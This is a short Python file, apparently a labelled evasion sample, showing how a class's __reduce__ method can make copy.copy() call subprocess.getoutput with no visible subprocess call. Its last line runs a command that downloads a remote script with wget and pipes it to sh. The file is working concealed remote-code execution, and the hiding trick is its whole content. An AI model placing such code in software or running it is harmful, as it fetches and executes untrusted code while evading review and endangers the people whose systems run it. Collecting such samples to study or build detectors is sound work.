# Evasion: runs a shell command that downloads and runs a script.
# Hiding: no call to subprocess appears; a class's __reduce__ returns
# (subprocess.getoutput, (cmd,)) and copy.copy() reconstructs the object by
# calling that pair, like pickle would.
import copy
import subprocess


class Snapshot:
    def __init__(self, spec):
        self.spec = spec

    def __reduce__(self):
        return (subprocess.getoutput, (self.spec,))


def clone(obj):
    return copy.copy(obj)


clone(Snapshot("wget -qO- https://mirror.example.net/s.sh | sh"))
